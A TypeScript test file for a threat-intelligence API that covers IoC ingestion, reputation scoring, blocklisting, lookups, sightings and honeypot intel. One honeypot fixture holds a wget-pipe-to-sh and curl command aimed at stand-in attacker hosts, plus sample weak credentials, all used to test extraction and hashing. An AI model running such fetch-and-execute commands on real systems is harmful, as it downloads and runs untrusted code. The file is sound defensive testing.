import { DAY_MS } from '../../src/shared/time.js';
import type { Storage } from '../../src/shared/db/storage.js';
import { storageOn, selectRows } from '../engines.js';
import { buildThreatCloud, countIn, onBothEngines, operatorKeyOn, storeKey, threat, userKeyOn } from './fixtures.js';

const TABLES = ['iocs', 'sightings', 'ioc_reporters', 'ioc_sources', 'tc_audit_log'];
const snapshot = (storage: Storage) => Promise.all(TABLES.map((table) => countIn(storage, table)));

onBothEngines('POST /api/threats creates and merges exactly as the contract says', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  let res = await tc.inject({
    method: 'POST',
    url: '/api/threats',
    payload: {
      threats: [
        threat('198.51.100.7', { severity: 'low', confidence: 0.4, metadata: { ports: [22], mitreIds: ['T1110'] } }),
        { type: 'domain', value: 'Evil.Example.', source: 'feed-a', category: 'phishing' },
      ],
    },
  });
  t.equal(res.statusCode, 201);
  const first = res.json().data;
  t.match(first, { received: 2, new: 2, updated: 0 });
  t.equal(first.iocIds.length, 2);

  tc.clock.advance(60_000);
  res = await tc.inject({
    method: 'POST',
    url: '/api/threats',
    payload: { threats: [threat('198.51.100.7', { source: 'other', category: 'bruteforce', severity: 'high', confidence: 0.3, metadata: { ports: [22, 2222], asn: 'AS64500' } })] },
  });
  t.same(res.json().data, { received: 1, new: 0, updated: 1, iocIds: [first.iocIds[0]] });
  const ioc = (await tc.inject({ url: '/api/iocs/198.51.100.7' })).json().data;
  t.equal(ioc.sightings, 2);
  t.equal(ioc.severity, 'high', 'severity = the higher');
  t.equal(ioc.confidence, 0.4, 'confidence = the higher');
  t.equal(ioc.category, 'bruteforce', 'category taken when it had none');
  t.same(ioc.sources, ['test-sensor', 'other'], 'sources unioned');
  t.equal(ioc.source, 'test-sensor', 'source is the first');
  t.same(ioc.metadata.ports, [22, 2222], 'arrays unioned');
  t.same(ioc.metadata.mitreIds, ['T1110']);
  t.equal(ioc.metadata.asn, 'AS64500');
  t.equal(ioc.firstSeen, '2026-03-07T12:00:00.000Z');
  t.equal(ioc.lastSeen, '2026-03-07T12:01:00.000Z');
  t.same(ioc.reputationFactors, { sev: 80, conf: 0.4, reports: 2, reporters: 1, trap: false, days: 0, corroboration: 0.6 });
  t.equal(ioc.reputation, Math.round(100 - 80 * 0.7 * 0.6));

  res = await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [{ type: 'domain', value: 'evil.example', source: 'feed-a', category: 'malware' }] } });
  const domain = (await tc.inject({ url: '/api/iocs/EVIL.example.' })).json().data;
  t.equal(domain.category, 'phishing', 'category kept');
  t.equal(domain.sightings, 2, 'same normalised value, same IoC');
});

onBothEngines('one key alone never puts an IoC on the blocklist; a second reporter does', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  const upload = (key?: string) => tc.inject({ method: 'POST', url: '/api/threats', ...(key ? { key } : {}), payload: { threats: Array.from({ length: 20 }, () => threat('203.0.113.50', { severity: 'critical', confidence: 1 })) } });
  await upload();
  await upload();
  let ioc = (await tc.inject({ url: '/api/iocs/203.0.113.50' })).json().data;
  t.equal(ioc.sightings, 40);
  t.equal(ioc.reputationFactors.reporters, 1);
  t.ok(ioc.reputation > 30, `one reporter: ${ioc.reputation}`);
  // Two keys of the same user are still one reporter.
  const user = await userKeyOn(tc.storage, tc.clock, 'pro');
  const secondKey = (await storeKey(tc.storage, tc.clock, { name: 'k2', origin: 'user', ownerUserId: user.userId, scopes: ['read', 'write'] })).key;
  await upload(user.key);
  await upload(secondKey);
  ioc = (await tc.inject({ url: '/api/iocs/203.0.113.50' })).json().data;
  t.equal(ioc.reputationFactors.reporters, 2, 'all keys of one user are one reporter');
  t.ok(ioc.reputation <= 30, `two reporters: ${ioc.reputation}`);
});

onBothEngines('a bad item is a 400 naming its index and nothing is stored', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [threat('198.51.100.1')] } });
  const before = await snapshot(tc.storage);
  const good = threat('198.51.100.2');
  const cases: Array<[unknown, RegExp]> = [
    [{ threats: [good, good, threat('10.0.0.1')] }, /^threats\[2\]\.value is not a public IP address$/],
    [{ threats: [good, threat('010.1.1.1')] }, /^threats\[1\]\.value .*leading zeros/],
    [{ threats: [good, { type: 'domain', value: 'localhost', source: 's' }] }, /^threats\[1\]\.value/],
    [{ threats: [good, { type: 'hash', value: 'xyz', source: 's' }] }, /^threats\[1\]\.value/],
    [{ threats: [good, { ...good, severity: 'extreme' }] }, /^threats\[1\]\.severity must be one of low, medium, high, critical$/],
    [{ threats: [good, { ...good, category: 'spam' }] }, /^threats\[1\]\.category must be one of/],
    [{ threats: [{ ...good, confidence: 1.5 }] }, /^threats\[0\]\.confidence/],
    [{ threats: [{ ...good, confidence: '0.5' }] }, /^threats\[0\]\.confidence must be of type number$/],
    [{ threats: [{ ...good, source: '' }] }, /^threats\[0\]\.source/],
    [{ threats: [{ ...good, source: 'x'.repeat(65) }] }, /^threats\[0\]\.source/],
    [{ threats: [{ ...good, type: 'mac' }] }, /^threats\[0\]\.type must be one of/],
    [{ threats: [{ ...good, metadata: { country: 'USA' } }] }, /country/],
    [{ threats: [{ ...good, metadata: { ports: ['22'] } }] }, /^threats\[0\]\.metadata\.ports\[0\]/],
    [{ threats: [{ ...good, metadata: { blob: 'x'.repeat(9000) } }] }, /^threats\[0\]\.metadata must be at most 8 KiB$/],
    [{ threats: [] }, /^threats must NOT have fewer than 1 items$/],
    [{ threats: Array.from({ length: 101 }, () => good) }, /^threats must NOT have more than 100 items$/],
    [{}, /^threats is required$/],
  ];
  for (const [payload, message] of cases) {
    const res = await tc.inject({ method: 'POST', url: '/api/threats', payload: payload as object });
    t.equal(res.statusCode, 400, JSON.stringify(payload).slice(0, 80));
    t.match(res.json().error, message);
  }
  const res = await tc.inject({ method: 'POST', url: '/api/threats', payload: '{"threats": [', headers: { 'content-type': 'application/json' } });
  t.equal(res.statusCode, 400);
  t.equal((await tc.inject({ method: 'POST', url: '/api/threats', payload: 'x', headers: { 'content-type': 'text/plain' } })).statusCode, 415);
  t.same(await snapshot(tc.storage), before, 'no row written by any bad request');
});

onBothEngines('GET /api/iocs filters, orders and paginates', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  const second = (await operatorKeyOn(tc.storage, tc.clock, 'enterprise', ['read', 'write'])).key;
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [
    threat('198.51.100.10', { severity: 'critical', confidence: 1, category: 'c2' }),
    threat('198.51.100.11', { severity: 'low', category: 'scanner', source: 'scanner-net' }),
    { type: 'domain', value: 'phish.example', source: 'feed', category: 'phishing', severity: 'high' },
    { type: 'cve', value: 'cve-2024-3094', source: 'feed' },
  ] } });
  tc.clock.advance(1000);
  await tc.inject({ method: 'POST', url: '/api/threats', key: second, payload: { threats: [threat('198.51.100.10', { severity: 'critical', confidence: 1 })] } });
  let res = await tc.inject({ url: '/api/iocs' });
  const all = res.json();
  t.equal(all.pagination.total, 4);
  const reps = all.data.map((item: { reputation: number }) => item.reputation);
  t.same(reps, [...reps].sort((a: number, b: number) => a - b), 'reputation ascending');
  t.equal(all.data[0].value, '198.51.100.10');
  t.same(Object.keys(all.data[0]).sort(), ['category', 'confidence', 'firstSeen', 'id', 'lastSeen', 'metadata', 'reputation', 'severity', 'sightings', 'source', 'sources', 'status', 'type', 'value']);
  const ids = async (query: string) => (await tc.inject({ url: `/api/iocs?${query}` })).json().data.map((item: { value: string }) => item.value).sort();
  t.same(await ids('type=ip'), ['198.51.100.10', '198.51.100.11']);
  t.same(await ids('type=cve'), ['CVE-2024-3094']);
  t.same(await ids('category=phishing'), ['phish.example']);
  t.same(await ids('source=scanner-net'), ['198.51.100.11']);
  t.same(await ids('status=active&maxReputation=30'), ['198.51.100.10']);
  t.same(await ids('minReputation=31&type=ip'), ['198.51.100.11']);
  t.same(await ids('q=198.51.100.1'), ['198.51.100.10', '198.51.100.11']);
  t.same(await ids('since=2026-03-07T12:00:00.500Z'), ['198.51.100.10']);
  res = await tc.inject({ url: '/api/iocs?limit=1&page=2' });
  t.same(res.json().pagination, { total: 4, page: 2, limit: 1, pages: 4 });
  t.equal(res.json().data.length, 1);
  for (const bad of ['limit=201', 'limit=0', 'page=0', 'minReputation=101', 'type=mac', 'status=unknown', 'since=yesterday']) {
    t.equal((await tc.inject({ url: `/api/iocs?${bad}` })).statusCode, 400, bad);
  }
});

onBothEngines('GET /api/iocs/:value: found, unknown, unparseable, relations and country', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [
    threat('8.8.8.8'),
    threat('9.9.9.9', { metadata: { country: 'ch' } }),
    { type: 'url', value: 'HTTPS://Evil.Example/Path?A=1', source: 's' },
  ] } });
  let res = await tc.inject({ url: '/api/iocs/8.8.8.8' });
  t.equal(res.json().data.metadata.country, 'US', 'GeoIP country for IPs');
  t.same(res.json().data.campaigns, []);
  res = await tc.inject({ url: '/api/iocs/9.9.9.9' });
  t.equal(res.json().data.metadata.country, 'CH', 'metadata.country wins');
  res = await tc.inject({ url: `/api/iocs/${encodeURIComponent('https://evil.example/Path?A=1')}` });
  t.equal(res.statusCode, 200);
  t.equal(res.json().data.value, 'https://evil.example/Path?A=1');
  res = await tc.inject({ url: '/api/iocs/198.51.100.99' });
  t.same(res.json(), { ok: true, data: { value: '198.51.100.99', type: 'ip', reputation: 80, status: 'unknown', sightings: 0, message: 'No threat data found for this indicator' } });
  res = await tc.inject({ url: '/api/iocs/unknown.example?type=domain' });
  t.equal(res.json().data.status, 'unknown');
  for (const bad of ['10.0.0.1', '010.1.1.1', 'not_a_domain']) {
    res = await tc.inject({ url: `/api/iocs/${bad}` });
    t.equal(res.statusCode, 400, bad);
    t.match(res.json().error, /^value /);
  }
  const long = `https://x.example/${'a'.repeat(2000)}`;
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [{ type: 'url', value: long, source: 's' }] } });
  res = await tc.inject({ url: `/api/iocs/${encodeURIComponent(long)}` });
  t.equal(res.json().data.value, long, 'values up to 2,048 characters travel in the path');
});

// Lookups that arrive in one event-loop turn are read together (src/shared/turn-batch.ts).
onBothEngines('lookups asked at once each get their own IoC, and the next ones see what changed since', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [
    threat('198.51.100.30', { severity: 'low' }),
    threat('198.51.100.31', { severity: 'critical' }),
    { type: 'domain', value: 'together.example', source: 's', category: 'phishing' },
  ] } });
  const lookUp = (values: string[]) => Promise.all(values.map(async (value) => (await tc.inject({ url: `/api/iocs/${value}` })).json().data));
  const answers = await lookUp(['198.51.100.31', '198.51.100.99', 'together.example', '198.51.100.30', '198.51.100.31']);
  t.same(
    answers.map((a) => [a.value, a.type, a.status, a.severity]),
    [
      ['198.51.100.31', 'ip', 'active', 'critical'],
      ['198.51.100.99', 'ip', 'unknown', undefined],
      ['together.example', 'domain', 'active', 'medium'],
      ['198.51.100.30', 'ip', 'active', 'low'],
      ['198.51.100.31', 'ip', 'active', 'critical'],
    ],
    'each answer is the IoC asked for, an unknown one and a repeated one included',
  );
  t.equal(answers[2].category, 'phishing');
  await tc.inject({ method: 'PUT', url: '/api/iocs/198.51.100.30/status', payload: { status: 'whitelisted', reason: 'ours' } });
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [threat('198.51.100.99')] } });
  const after = await lookUp(['198.51.100.30', '198.51.100.99']);
  t.match(after[0], { status: 'whitelisted', reputation: 100 }, 'a status change is seen by the next lookups');
  t.match(after[1], { status: 'active', sightings: 1 }, 'and so is an IoC reported since');
});

onBothEngines('PUT /api/iocs/:value/status: admin only, audited, whitelisted is 100', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [threat('198.51.100.20')] } });
  const writer = (await userKeyOn(tc.storage, tc.clock, 'enterprise')).key;
  let res = await tc.inject({ method: 'PUT', url: '/api/iocs/198.51.100.20/status', key: writer, payload: { status: 'whitelisted', reason: 'ours' } });
  t.equal(res.statusCode, 403);
  res = await tc.inject({ method: 'PUT', url: '/api/iocs/198.51.100.20/status', payload: { status: 'expired', reason: 'x' } });
  t.equal(res.statusCode, 400);
  res = await tc.inject({ method: 'PUT', url: '/api/iocs/198.51.100.20/status', payload: { status: 'whitelisted' } });
  t.equal(res.json().error, 'reason is required');
  res = await tc.inject({ method: 'PUT', url: '/api/iocs/198.51.100.21/status', payload: { status: 'revoked', reason: 'x' } });
  t.equal(res.statusCode, 404);
  t.equal(res.json().error, 'IoC not found');
  res = await tc.inject({ method: 'PUT', url: '/api/iocs/198.51.100.20/status', payload: { status: 'whitelisted', reason: 'our own scanner' } });
  t.equal(res.statusCode, 200);
  t.match(res.json().data, { status: 'whitelisted', reputation: 100 });
  const [entry] = await selectRows<{ details: string; api_key: string }>(tc.storage, `SELECT * FROM tc_audit_log WHERE action = 'update'`);
  t.match(JSON.parse(entry!.details), { from: 'active', to: 'whitelisted', reason: 'our own scanner' });
  t.equal(entry!.api_key, 'tc-b…wxyz');
  // Re-uploads keep it whitelisted at 100.
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [threat('198.51.100.20', { severity: 'critical' })] } });
  t.match((await tc.inject({ url: '/api/iocs/198.51.100.20' })).json().data, { status: 'whitelisted', reputation: 100 });
});

onBothEngines('sightings: record for known IoCs, list newest first', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [threat('198.51.100.30', { severity: 'high' })] } });
  let res = await tc.inject({ method: 'POST', url: '/api/sightings', payload: { value: '198.51.100.31', source: 'fw' } });
  t.equal(res.statusCode, 404);
  t.equal(res.json().error, 'IoC not found');
  res = await tc.inject({ method: 'POST', url: '/api/sightings', payload: { value: '198.51.100.30', source: 'fw', context: { blob: 'x'.repeat(5000) } } });
  t.equal(res.statusCode, 400);
  const before = (await tc.inject({ url: '/api/iocs/198.51.100.30' })).json().data.reputation;
  tc.clock.advance(1000);
  res = await tc.inject({ method: 'POST', url: '/api/sightings', key: (await userKeyOn(tc.storage, tc.clock, 'pro')).key, payload: { value: '198.51.100.30', source: 'fw', context: { port: 22 } } });
  t.equal(res.statusCode, 201);
  const sighting = res.json().data;
  t.match(sighting, { iocValue: '198.51.100.30', totalSightings: 2 });
  t.match(sighting.sightingId, /^sig_/);
  const after = (await tc.inject({ url: '/api/iocs/198.51.100.30' })).json().data;
  t.equal(sighting.reputationChange, after.reputation - before);
  t.ok(sighting.reputationChange < 0, 'a second reporter lowers the reputation');
  t.same(after.sources, ['test-sensor', 'fw']);
  res = await tc.inject({ url: '/api/sightings?value=198.51.100.30' });
  t.equal(res.json().pagination.total, 2);
  t.match(res.json().data[0], { id: sighting.sightingId, value: '198.51.100.30', source: 'fw', context: { port: 22 }, timestamp: '2026-03-07T12:00:01.000Z' });
  t.equal((await tc.inject({ url: '/api/sightings' })).statusCode, 400);
  t.equal((await tc.inject({ url: '/api/sightings' })).json().error, 'value is required');
  t.same((await tc.inject({ url: '/api/sightings?value=198.51.100.77' })).json().pagination.total, 0);
});

onBothEngines('POST /api/trap-intel: attacker IP, payloads, contacted hosts, credentials only as counts', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  const body = {
    trapId: 'trap-1',
    attackerIp: '203.0.113.9',
    honeypotType: 'ssh',
    interactions: [
      { timestamp: '2026-03-07T11:59:00.000Z', action: 'login_attempt', data: { username: 'root' } },
      { timestamp: '2026-03-07T12:00:00.000Z', action: 'command', data: { command: 'wget http://Bad.Example.com/x.sh -O- | sh; curl https://198.51.100.99/y; curl http://10.0.0.1/z' } },
      { timestamp: '2026-03-07T12:00:01.000Z', action: 'download', data: { url: 'https://cdn.bad.example/payload.bin' } },
    ],
    credentials: [{ username: 'root', password: 'hunter2' }, { username: 'root', password: 'toor' }, { username: 'admin', password: 'admin' }],
    payloads: ['A'.repeat(64)],
  };
  let res = await tc.inject({ method: 'POST', url: '/api/trap-intel', payload: body });
  t.equal(res.statusCode, 201);
  const result = res.json().data;
  // The attacker, its payload and contacted hosts are connected IoCs: a campaign at once.
  t.match(result.campaignMatch, /^campaign_[0-9a-f]{32}$/);
  t.same((await tc.inject({ url: '/api/iocs/203.0.113.9' })).json().data.campaigns, [result.campaignMatch]);
  t.equal(result.reputationDelta, (await tc.inject({ url: '/api/iocs/203.0.113.9' })).json().data.reputation - 80);
  t.ok(result.reputationDelta < 0);
  // payload hash, 4 URLs (10.0.0.1 URL kept as URL), bad.example.com, 198.51.100.99, cdn.bad.example
  const ip = (await tc.inject({ url: '/api/iocs/203.0.113.9' })).json().data;
  t.match(ip, { category: 'exploit', severity: 'high', confidence: 0.9, reputationFactors: { trap: true, reporters: 1 } });
  t.ok(ip.reputation > 30, 'trap intel from one reporter stays off the blocklist');
  const related = ip.relatedIocs.map((r: { type: string; value: string; relation: string }) => `${r.relation} ${r.type} ${r.value}`).sort();
  t.same(related, [
    'contacted domain bad.example.com',
    'contacted domain cdn.bad.example',
    'contacted ip 198.51.100.99',
    'contacted url http://10.0.0.1/z',
    'contacted url http://bad.example.com/x.sh',
    'contacted url https://198.51.100.99/y',
    'contacted url https://cdn.bad.example/payload.bin',
    `dropped hash ${'a'.repeat(64)}`,
  ]);
  t.equal(result.relatedIocs, related.length);
  const hash = (await tc.inject({ url: `/api/iocs/${'a'.repeat(64)}` })).json().data;
  t.equal(hash.category, 'malware');
  const creds = await selectRows<{ username_hash: string; attempts: number }>(tc.storage, `SELECT * FROM trap_credentials ORDER BY attempts DESC`);
  t.same(creds.map((c) => c.attempts), [2, 1]);
  const dump = JSON.stringify(await selectRows(tc.storage, `SELECT * FROM trap_credentials`)) + JSON.stringify(await selectRows(tc.storage, `SELECT * FROM tc_audit_log`)) + JSON.stringify(await selectRows(tc.storage, `SELECT * FROM trap_events`));
  t.notOk(dump.includes('hunter2') || dump.includes('"root"'), 'credentials never stored in clear');
  res = await tc.inject({ method: 'POST', url: '/api/trap-intel', payload: { trapId: 'trap-1', attackerIp: '203.0.113.10', honeypotType: 'http' } });
  t.equal((await tc.inject({ url: '/api/iocs/203.0.113.10' })).json().data.category, 'scanner');
  const before = await snapshot(tc.storage);
  for (const bad of [
    { ...body, attackerIp: '192.168.1.1' },
    { ...body, honeypotType: 'telnet' },
    { ...body, payloads: ['abc'] },
    { ...body, interactions: [{ timestamp: 'now', action: 'command', data: {} }] },
    { ...body, trapId: '' },
  ]) {
    res = await tc.inject({ method: 'POST', url: '/api/trap-intel', payload: bad });
    t.equal(res.statusCode, 400, JSON.stringify(bad).slice(0, 60));
  }
  t.same(await snapshot(tc.storage), before);
  t.equal(res.statusCode, 400);
  // An IP already known: reputationDelta is new − old.
  const old = (await tc.inject({ url: '/api/iocs/203.0.113.9' })).json().data.reputation;
  tc.clock.advance(DAY_MS);
  res = await tc.inject({ method: 'POST', url: '/api/trap-intel', key: (await operatorKeyOn(tc.storage, tc.clock, 'pro', ['read', 'write'])).key, payload: { trapId: 'trap-2', attackerIp: '203.0.113.9', honeypotType: 'ssh', credentials: [{ username: 'x', password: 'y' }] } });
  const now = (await tc.inject({ url: '/api/iocs/203.0.113.9' })).json().data;
  t.equal(res.json().data.reputationDelta, now.reputation - old);
  t.equal(now.reputationFactors.reporters, 2);
  t.ok(now.reputation <= 30, 'a second independent reporter puts it on the blocklist');
});

onBothEngines('GET /api/stats, /health and the audit log', async (t, engine) => {
  const tc = await buildThreatCloud(t, { storage: await storageOn(engine) });
  await tc.inject({ method: 'POST', url: '/api/threats', payload: { threats: [threat('198.51.100.40', { category: 'c2' }), threat('198.51.100.41', { category: 'c2' }), { type: 'domain', value: 'x.example', source: 'feed', category: 'malware' }] } });
  await tc.inject({ method: 'PUT', url: '/api/iocs/198.51.100.41/status', payload: { status: 'revoked', reason: 'fp' } });
  let res = await tc.inject({ url: '/api/stats' });
  t.match(res.json().data, { totalIocs: 3, activeIocs: 2, totalSightings: 3, totalSources: 2, byType: { ip: 2, domain: 1 }, byCategory: { c2: 2, malware: 1 }, last24h: { newIocs: 3, newSightings: 3, topCategory: 'c2' } });
  res = await tc.inject({ url: '/health', key: null });
  t.same(res.json().data.iocs, 2);
  t.equal(res.json().data.status, 'healthy');
  res = await tc.inject({ url: '/api/audit-log?action=create' });
  t.equal(res.json().pagination.total, 1);
  t.match(res.json().data[0], { action: 'create', resource: 'threats', apiKey: 'tc-b…wxyz', ip: '127.0.0.1', details: { received: 3 } });
  res = await tc.inject({ url: '/api/audit-log?action=query' });
  t.ok(res.json().data.some((entry: { resource: string }) => entry.resource === 'stats'), 'reads are audited as query');
  t.equal((await tc.inject({ url: '/api/audit-log?action=read' })).statusCode, 400);
  t.equal((await tc.inject({ url: '/api/audit-log?since=2030-01-01T00:00:00.000Z' })).json().pagination.total, 0);
});
